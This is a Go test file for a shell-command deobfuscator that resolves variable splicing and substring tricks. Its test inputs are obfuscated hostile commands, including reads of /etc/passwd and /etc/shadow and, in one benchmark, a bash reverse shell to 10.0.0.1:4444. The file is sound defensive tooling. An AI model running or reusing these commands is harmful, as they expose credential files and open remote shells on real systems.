package deobfuscate

import (
	"strings"
	"testing"
)

func TestShVars(t *testing.T) {
	runTransformTable(t, ShVars, []transformCase{
		{"splice", `a=ba;b=sh;$a$b`, `a=ba;b=sh;bash`, true},
		{"braced", `x=/etc/pass; cat ${x}wd`, `x=/etc/pass; cat /etc/passwd`, true},
		{"two on one statement", `a=c b=at && $a$b /etc/shadow`, `a=c b=at && cat /etc/shadow`, true},
		{"built from another", `a=who; b=${a}ami; $b`, `a=who; b=whoami; whoami`, true},
		{"quoted value", `c='cat /etc/passwd'; $c`, `c='cat /etc/passwd'; cat /etc/passwd`, true},
		{"substring", `s=xxcurlyy; ${s:2:4} http://x`, `s=xxcurlyy; curl http://x`, true},
		{"negative offset", `s=/bin/bash; ${s: -4}`, `s=/bin/bash; bash`, true},
		{"length and case", `s=id; ${s^^} ${#s}`, `s=id; ID 2`, true},
		{"replacement", `s=wXoami; ${s/X/h}`, `s=wXoami; whoami`, true},
		{"inside double quotes", `u=root; echo "hi $u"`, `u=root; echo "hi root"`, true},
		{"single quotes stay", `u=root; echo '$u'`, `u=root; echo '$u'`, false},
		{"prefix assignment is for the command", `x=1 env; echo $x`, `x=1 env; echo $x`, false},
		{"pipe runs in a subshell", `x=1 | true; echo $x`, `x=1 | true; echo $x`, false},
		{"subshell does not leak", `(x=1); echo $x`, `(x=1); echo $x`, false},
		{"for loop variable", `x=a; for x in 1 2; do echo $x; done`, `x=a; for x in 1 2; do echo $x; done`, false},
		{"read variable", `l=a; read l; echo $l`, `l=a; read l; echo $l`, false},
		{"command substitution value", `x=$(id); echo $x`, `x=$(id); echo $x`, false},
		{"unknown variable", `echo $HOME $1`, `echo $HOME $1`, false},
		{"use before set", `echo $y; y=2`, `echo $y; y=2`, false},
		{"operator value unquoted", `x='a;b'; echo $x`, `x='a;b'; echo 'a;b'`, true},
	})
}

func TestShVarsBomb(t *testing.T) {
	var b strings.Builder
	b.WriteString("a=xxxxxxxxxxxxxxxx;")
	for range 40 {
		b.WriteString("a=$a$a$a$a;")
	}
	b.WriteString("echo $a")
	in := b.String()
	if out, changed := ShVars(in); changed && !bounded(in, out) {
		t.Fatalf("unbounded: %d bytes", len(out))
	}
}

func FuzzShVars(f *testing.F) {
	fuzzTransform(f, ShVars, `a=ba;b=sh;$a$b`, `x=/etc/pass; cat ${x}wd`, `s=ab; ${s:1:1}${s: -1}${#s}${s/a/b}${s^}`, `a=$a$a;a=$a$a`, `a="$(";$a`)
}

func BenchmarkShVars(b *testing.B) {
	benchTransform(b, ShVars, `a=ba;b=sh;c=/dev/tcp/10.0.0.1/4444; $a$b -i >& $c 0>&1`)
}

func BenchmarkShVarsBenign(b *testing.B) {
	benchTransform(b, ShVars, `for f in $(git ls-files '*.go'); do gofmt -l "$f"; done | tee /tmp/out.txt | wc -l`)
}
